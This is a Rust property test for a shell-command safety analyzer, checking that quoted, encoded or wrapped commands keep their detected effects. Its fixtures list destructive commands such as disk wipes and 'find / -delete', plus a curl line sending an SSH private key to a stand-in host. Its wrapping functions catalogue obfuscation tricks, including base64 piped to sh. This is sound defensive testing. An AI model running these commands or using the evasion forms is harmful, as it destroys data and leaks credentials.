//! Rewriting a command without changing its meaning must not change its analysis; and text that is only an
//! argument is never a command.
#![expect(clippy::format_collect, reason = "a test is short before it is fast")]

use proptest::prelude::*;
use tenter_shell::{Analysis, Kind, Surroundings, analyze};

/// Commands as words, each with effects of its own kind.
const COMMANDS: &[&[&str]] = &[
    &["rm", "-rf", "/etc/ssl"],
    &["rm", "notes.txt"],
    &["git", "reset", "--hard"],
    &["git", "push", "--force", "origin", "main"],
    &["git", "clean", "-fdx"],
    &["chmod", "-R", "777", "/srv"],
    &["chown", "-R", "me", "/opt"],
    &["dd", "if=/dev/zero", "of=/dev/sda"],
    &["mkfs.ext4", "/dev/sdb1"],
    &["mv", "a.txt", "/dev/null"],
    &["curl", "-d", "@/home/me/.ssh/id_rsa", "http://h.example"],
    &["shutdown", "-h", "now"],
    &["kill", "-9", "1"],
    &["docker", "system", "prune", "-af"],
    &["kubectl", "delete", "namespace", "prod"],
    &["terraform", "destroy", "-auto-approve"],
    &["npm", "publish"],
    &["truncate", "-s", "0", "db.sqlite"],
    &["find", "/", "-delete"],
    &["aws", "s3", "rb", "s3://bucket", "--force"],
];

fn world() -> Surroundings<'static> {
    Surroundings {
        cwd: Some("/shop"),
        home: Some("/home/me"),
        user: Some("me"),
        ..Surroundings::default()
    }
}

/// The effects without position and certainty.
fn effects(analysis: &Analysis) -> Vec<String> {
    let mut lines: Vec<String> = analysis
        .effects
        .iter()
        .filter(|effect| effect.kind != Kind::Privilege)
        .map(|effect| {
            format!(
                "{} {} {} {} {} {:?}",
                effect.kind.name(),
                effect.action,
                effect.target.shown(),
                effect.recursive,
                effect.force,
                effect.sources
            )
        })
        .collect();
    lines.sort();
    lines.dedup();
    lines
}

fn of(command: &str) -> Vec<String> {
    effects(&analyze(command, &world()))
}

fn single_quoted(text: &str) -> String {
    format!("'{}'", text.replace('\'', "'\\''"))
}

/// The same word, written another way.
fn disguise(word: &str, how: usize) -> String {
    let mut letters = word.chars();
    let first = letters.next().expect("no empty words").to_string();
    let rest: String = letters.collect();
    match how {
        0 => word.to_owned(),
        1 => single_quoted(word),
        2 => format!("\"{word}\""),
        3 => format!("{}''{rest}", first.replace(['~', '{'], "")),
        4 => word.chars().map(|letter| format!("\\{letter}")).collect(),
        5 => {
            format!("$'{}'", word.bytes().map(|byte| format!("\\x{byte:02x}")).collect::<String>())
        }
        6 => format!("\"{first}\"{}", single_quoted(&rest)),
        7 => format!("$(echo {})", single_quoted(word)),
        8 => format!("$(printf '%s' {})", single_quoted(word)),
        9 => format!("`echo {}`", single_quoted(word)),
        10 => format!("{first}\\\n{rest}"),
        _ => format!(
            "$(printf '{}')",
            word.bytes().map(|byte| format!("\\{byte:03o}")).collect::<String>()
        ),
    }
}
const DISGUISES: usize = 12;

/// The same command, inside something that runs it.
fn around(command: &str, how: usize) -> String {
    let quoted = single_quoted(command);
    match how {
        0 => format!("{command}; true"),
        1 => format!("true; {command}"),
        2 => format!("( {command} )"),
        3 => format!("{{ {command}; }}"),
        4 => format!("env {command}"),
        5 => format!("env -i A=1 B=2 {command}"),
        6 => format!("bash -c {quoted}"),
        7 => format!("sh -ec {quoted}"),
        8 => format!("eval {quoted}"),
        9 => format!("x={quoted}; eval \"$x\""),
        10 => format!("nohup {command} &"),
        11 => format!("timeout -k 1 5s {command}"),
        12 => format!("nice -n 5 {command}"),
        13 => format!("command {command}"),
        14 => format!("f() {{ {command}; }}; f"),
        15 => format!("if true; then {command}; fi"),
        16 => format!("for i in 1; do {command}; done"),
        17 => format!("sudo -n {command}"),
        18 => format!("x=$( {command} )"),
        19 => format!("echo {quoted} | bash"),
        20 => format!("bash <<< {quoted}"),
        21 => format!("bash <<'END'\n{command}\nEND\n"),
        22 => format!("A=b {command} < /dev/null"),
        23 => format!("exec {command}"),
        24 => format!("case x in x) {command};; esac"),
        25 => format!("! {command} || true"),
        26 => format!("time {command}"),
        27 => format!("setsid stdbuf -oL {command}"),
        28 => format!("{command} # all fine"),
        29 => format!("echo {} | base64 -d | sh", base64(command)),
        31 => format!(
            "cat > /tmp/p.c <<'END'\nint main() {{ return system({}); }}\nEND\ncc /tmp/p.c -o /tmp/p && /tmp/p",
            c_string(command)
        ),
        32 => format!(
            "cat > /tmp/p.go <<'END'\npackage main\nfunc main() {{ exec.Command(\"bash\", \"-c\", {}).Run() }}\nEND\ngo run /tmp/p.go",
            c_string(command)
        ),
        30 => format!("printf '%s\\n' {quoted} > /tmp/s.sh; sh /tmp/s.sh"),
        _ => format!("trap {quoted} EXIT"),
    }
}
const AROUND: usize = 34;

/// The text as a literal of C and Go.
fn c_string(text: &str) -> String {
    format!("\"{}\"", text.replace('\\', "\\\\").replace('"', "\\\"").replace('\n', "\\n"))
}

fn base64(text: &str) -> String {
    const LETTERS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut coded = String::new();
    for chunk in text.as_bytes().chunks(3) {
        let bytes = [0, 1, 2].map(|at| u32::from(chunk.get(at).copied().unwrap_or(0)));
        let all = bytes[0] << 16 | bytes[1] << 8 | bytes[2];
        for place in 0..4 {
            let six = (all >> (18 - 6 * place)) & 63;
            let letter = LETTERS[usize::try_from(six).expect("six bits")];
            coded.push(if place <= chunk.len() { char::from(letter) } else { '=' });
        }
    }
    coded
}

fn contains_all(all: &[String], wanted: &[String]) -> Result<(), String> {
    match wanted.iter().find(|line| !all.contains(line)) {
        Some(missing) => Err(format!("lost `{missing}`; there are {all:?}")),
        None => Ok(()),
    }
}

#[test]
fn every_command_has_effects() {
    for words in COMMANDS {
        assert!(!of(&words.join(" ")).is_empty(), "{words:?}");
    }
}

#[test]
fn every_wrapping_keeps_every_effect() {
    for words in COMMANDS {
        let command = words.join(" ");
        let wanted = of(&command);
        for how in 0..AROUND {
            let wrapped = around(&command, how);
            // A decoded or written script is more than the command alone; it is never less.
            if let Err(fault) = contains_all(&of(&wrapped), &wanted) {
                panic!("{wrapped}\n{fault}");
            }
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 2000, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn disguised_words_say_the_same(
        which in 0..COMMANDS.len(),
        hows in prop::collection::vec(0..DISGUISES, 8),
    ) {
        let words = COMMANDS[which];
        let disguised: Vec<String> =
            words.iter().zip(hows.iter().cycle()).map(|(word, how)| disguise(word, *how)).collect();
        let command = disguised.join(" ");
        prop_assert_eq!(of(&command), of(&words.join(" ")), "{}", command);
    }

    #[test]
    fn wrappings_inside_each_other_keep_every_effect(
        which in 0..COMMANDS.len(),
        first in 0..AROUND,
        second in 0..AROUND,
    ) {
        let command = COMMANDS[which].join(" ");
        let wrapped = around(&command, first);
        // Compound commands cannot stand where a wrapper takes words.
        let takes_words = matches!(second, 4 | 5 | 10 | 11 | 12 | 13 | 17 | 22 | 23 | 27);
        let is_words = matches!(first, 4..=8 | 11 | 12 | 13 | 17 | 27);
        prop_assume!(!takes_words || is_words);
        // A heredoc or a comment ends only at the end of its line.
        prop_assume!(!matches!(first, 21 | 28 | 10) || matches!(second, 6 | 7 | 8 | 9 | 19 | 20 | 29 | 30));
        let twice = around(&wrapped, second);
        let all = of(&twice);
        let kept = contains_all(&all, &of(&command));
        prop_assert!(kept.is_ok(), "{}: {:?}", twice, kept);
    }

    #[test]
    fn a_command_in_quotes_is_only_text(which in 0..COMMANDS.len(), how in 0..10_usize) {
        let quoted = single_quoted(&COMMANDS[which].join(" "));
        let command = match how {
            0 => format!("echo {quoted}"),
            1 => format!("git commit -m {quoted}"),
            2 => format!("grep -rn {quoted} src"),
            3 => format!("rg {quoted}"),
            4 => format!("printf '%s\\n' {quoted}"),
            5 => format!("x={quoted}"),
            6 => format!("[ \"$a\" = {quoted} ]"),
            7 => format!("cat <<'END'\n{quoted}\nEND"),
            8 => format!("gh pr create --title x --body {quoted}"),
            _ => format!("echo done # {quoted}"),
        };
        let quiet = of(&command);
        let own = of(&COMMANDS[which].join(" "));
        prop_assert!(!own.iter().any(|line| quiet.contains(line)), "{}: {:?}", command, quiet);
        let analysis = analyze(&command, &world());
        prop_assert!(analysis.unverified.is_empty(), "{}: {:?}", command, analysis.unverified);
    }
}
